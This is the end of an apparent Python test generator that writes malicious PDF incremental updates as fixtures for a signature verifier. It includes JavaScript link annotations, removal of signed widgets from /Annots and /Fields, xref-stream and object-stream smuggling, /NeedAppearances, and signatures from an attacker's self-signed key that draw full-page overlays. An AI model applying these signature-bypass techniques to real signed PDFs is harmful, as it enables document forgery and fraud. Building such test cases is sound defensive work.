    js = b"<</S/JavaScript/JS(app.alert\\('0 tenge'\\))>>"
    u.obj(40, b"<</Type/Annot/Subtype/Link/Rect%s/Border[0 0 0]/F 4/P 12 0 R/A %s>>" % (FULL_PAGE, js))
    return u.simple()


@attack("fund-widget-removed-from-annots", 5, "the page's /Annots lose the fund's signed widget (32): its appearance disappears from the page", shows=None)
def _():
    u = Update(GOLDEN)
    u.obj(PAGE, body(PAGE).replace(b"/Annots[31 0 R 32 0 R]", b"/Annots[31 0 R]"))
    return u.simple()


@attack("fund-field-removed-from-fields", 5, "the AcroForm /Fields lose the fund's field (32): a reader that lists signatures from /Fields no longer sees the fund's", shows=None)
def _():
    u = Update(GOLDEN)
    u.obj(CATALOG, body(CATALOG).replace(b"/Fields[31 0 R 32 0 R]", b"/Fields[31 0 R]"))
    return u.simple()


@attack("info-content-in-xref-stream", 1, "info-content-stream written as a cross-reference stream section (the file's sections are tables)")
def _():
    u = Update(GOLDEN)
    at = u.obj(CONTENT, CONTENT_NEW, listed=False)
    rows = [(0, 0, 0, 65535), (CONTENT, 1, at, 0)]
    x = u.xref_stream(40, rows + [(40, 1, u.pos() + 1, 0)], extra=b"/Info 18 0 R")
    return u.finish(x)


@attack("page-in-object-stream", 3, "a cross-reference stream section puts a page with new contents (40) into an object stream (41), the page named by /Info")
def _():
    u = Update(GOLDEN)
    u.obj(40, CONTENT_NEW)
    at = u.obj(41, object_stream([(PAGE, 0)], [page_with(contents=b"40 0 R")]))
    rows = [(0, 0, 0, 65535), (40, 1, u.offsets[40][0], 0), (41, 1, at, 0), (PAGE, 2, 41, 0)]
    x = u.xref_stream(42, rows + [(42, 1, u.pos() + 1, 0)], extra=b"/Info 12 0 R")
    return u.finish(x)


@attack("acroform-needappearances", 6, "the AcroForm gains /NeedAppearances true (readers regenerate field appearances) and a /DA", shows=None)
def _():
    u = Update(GOLDEN)
    u.obj(CATALOG, body(CATALOG).replace(b"/SigFlags 3>>", b"/SigFlags 3/NeedAppearances true/DA(/Helv 0 Tf 0 g)>>"))
    return u.simple()


# Signed by an attacker's own key (tests/attacks/attacker.py: a self-signed certificate copying
# the fund's subject). Such a signature is at best "valid but untrusted"; what it adds must
# still be refused.


def attacker_signed(base, field, extra_objs, page_annots, fields):
    import attacker  # needs cryptography and asn1crypto: run make.py with .venv/bin/python

    u = Update(base)
    u.obj(PAGE, page_with(page_annots, base=base))
    u.obj(CATALOG, catalog_with_fields(fields, base=base))
    u.obj(40, OVERLAY)
    u.obj(45, field)
    u.obj(46, attacker.placeholder())
    for num, b in extra_objs:
        u.obj(num, b)
    return attacker.sign_update(u.simple())


@attack("attacker-signs-visible-field-outside-places", 5, "the certified-only revision; an attacker signs with a new signature field (45) drawn over the whole page with the overlay (40), outside the reserved places", base="certified")
def _():
    w = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(kelisim:fund:deputy)/F 4/Rect%s/P 12 0 R/V 46 0 R/AP<</N 40 0 R>>>>" % FULL_PAGE
    return attacker_signed(CERTIFIED, w, [], b"45 0 R", b"45 0 R")


@attack("attacker-signature-two-widgets", 5, "the certified-only revision; an attacker's signature field (45) with two widgets: 47 hidden at zero size, 48 drawing the overlay over the whole page", base="certified")
def _():
    field = b"<</FT/Sig/T(kelisim:fund:deputy)/V 46 0 R/Kids[47 0 R 48 0 R]>>"
    w47 = b"<</Type/Annot/Subtype/Widget/Parent 45 0 R/F 4/Rect[0 0 0 0]/P 12 0 R>>"
    w48 = b"<</Type/Annot/Subtype/Widget/Parent 45 0 R/F 4/Rect%s/P 12 0 R/AP<</N 40 0 R>>>>" % FULL_PAGE
    return attacker_signed(CERTIFIED, field, [(47, w47), (48, w48)], b"47 0 R 48 0 R", b"45 0 R")


@attack("attacker-signs-after-fund-visible", 5, "after both signatures, an attacker signs with a new full-page signature field drawing the overlay")
def _():
    w = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(kelisim:fund:deputy)/F 4/Rect%s/P 12 0 R/V 46 0 R/AP<</N 40 0 R>>>>" % FULL_PAGE
    return attacker_signed(GOLDEN, w, [], b"45 0 R", b"45 0 R")


def main():
    """Writes every attack into tests/attacks/pdf (or the folder given as the first argument)."""
    out = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else OUT
    out.mkdir(exist_ok=True)
    for old in out.glob("*.pdf"):
        old.unlink()
    for i, a in enumerate(ATTACKS, 1):
        data = a["make"]()
        assert data != GOLDEN, a["name"]
        (out / ("%02d-%s.pdf" % (i, a["name"]))).write_bytes(data)
    print("wrote %d attacks to %s" % (len(ATTACKS), out))


if __name__ == "__main__":
    main()
